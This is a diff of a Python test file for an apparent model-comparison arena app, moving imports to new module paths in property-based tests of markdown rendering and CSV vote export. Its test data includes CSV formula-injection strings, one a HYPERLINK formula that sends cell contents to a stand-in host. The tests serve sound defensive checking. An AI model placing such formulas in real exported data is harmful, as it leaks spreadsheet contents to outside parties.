@@ -151,7 +151,7 @@ def test_md_cuts_long_text_and_marks_the_cut():
 
 # ---------------------------------------------------------------- 2. Markdown builders
 def _reveal(model_a, model_b, ta, tb):
-    from arena.arena_tab import reveal_markdown
+    from arena.ui.arena_tab import reveal_markdown
 
     def side(m, t):
         return SimpleNamespace(model=m, transcript=t, votes=3, rating=SimpleNamespace(mu=25.0, sigma=8.0))
@@ -161,7 +161,7 @@ def _reveal(model_a, model_b, ta, tb):
 @settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(hostile, hostile, hostile)
 def test_arena_reveal_context_and_messages(name, transcript, context):
-    from arena.arena_tab import context_markdown, message_markdown
+    from arena.ui.arena_tab import context_markdown, message_markdown
 
     assert_inert(_reveal(name, name + "2", transcript, transcript), _reveal("x", "x2", "x", "x"),
                  [name, transcript])
@@ -244,7 +244,7 @@ def test_submit_job_details_and_errors(t):
 @settings(max_examples=50, deadline=None)
 @given(hostile)
 def test_bootstrap_status_line(t):
-    from eval_backend.bootstrap import BootstrapStatus
+    from space_shell.bootstrap import BootstrapStatus
 
     def line(v):
         s = BootstrapStatus()
@@ -341,7 +341,7 @@ text_field = hostile.map(str.strip).filter(lambda s: s and "\x00" not in s)
 
 @st.composite
 def vote_rows(draw):
-    from arena.storage import VoteRow
+    from arena.tables.storage import VoteRow
 
     rows = []
     for i in range(draw(st.integers(1, 4))):
@@ -366,7 +366,7 @@ KEPT = ("model_a", "model_b", "winner", "slot", "said", "sounded", "reason", "fi
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(vote_rows())
 def test_csv_export_round_trips_hostile_votes_exactly(votes):
-    from arena.votes_io import count_votes, format_votes, parse
+    from arena.core.votes_io import count_votes, format_votes, parse
 
     text = format_votes(votes, "csv")
     cells = list(csv.reader(io.StringIO(text, newline="")))
@@ -381,7 +381,7 @@ def test_csv_export_round_trips_hostile_votes_exactly(votes):
 def test_export_and_import_votes_through_the_command_line(tmp_path, capsys):
     """`python -m arena export --format csv` counts votes, not lines; `import-votes` gives them back exactly."""
     from arena.__main__ import main
-    from arena.service import ArenaService
+    from arena.services.service import ArenaService
     from eval_backend.store import Store
 
     reasons = ['=HYPERLINK("http://e.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-1", "'quoted",
